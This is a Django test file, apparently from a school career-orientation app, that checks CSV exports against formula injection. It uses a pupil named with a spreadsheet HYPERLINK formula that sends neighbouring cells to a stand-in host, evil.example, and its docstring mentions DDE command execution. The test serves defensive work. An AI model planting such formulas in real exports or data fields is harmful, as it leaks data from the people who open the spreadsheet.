"""Attack: a formula in a CSV export ("CSV injection", OWASP).

A pupil chooses their own name. Named `=HYPERLINK("https://evil.example/?d="&A1;"Klick")`, the pupil lands
in the teacher's class export (berufsorientierung-….csv); Excel or LibreOffice would evaluate the cell as a
formula: a live link that sends neighbouring cells away, or with `@`/`+`/`-` and DDE a command.

Defence: every CSV export writes its cells through `core.csv_cells.safe_cell`, which prefixes text starting
with `=`, `+`, `-`, `@`, tab or carriage return with an apostrophe (shown as text); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.urls import reverse

from ausbildung.core.csv_cells import safe_cell
from tests.orientation.helpers import demo_class

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'


def test_pupil_named_as_a_formula_is_text_in_the_class_export(demo, client_for):
    pupil = demo["schueler"]
    pupil.first_name, pupil.last_name = FORMULA, ""
    pupil.save(update_fields=["first_name", "last_name"])

    response = client_for("teacher").get(reverse("orientation:class_csv", args=[demo_class().pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_every_formula_prefix_is_neutralised_and_numbers_stay_numbers():
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Lena Schmidt") == "Lena Schmidt"
    assert safe_cell(-3) == -3 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(None) == ""
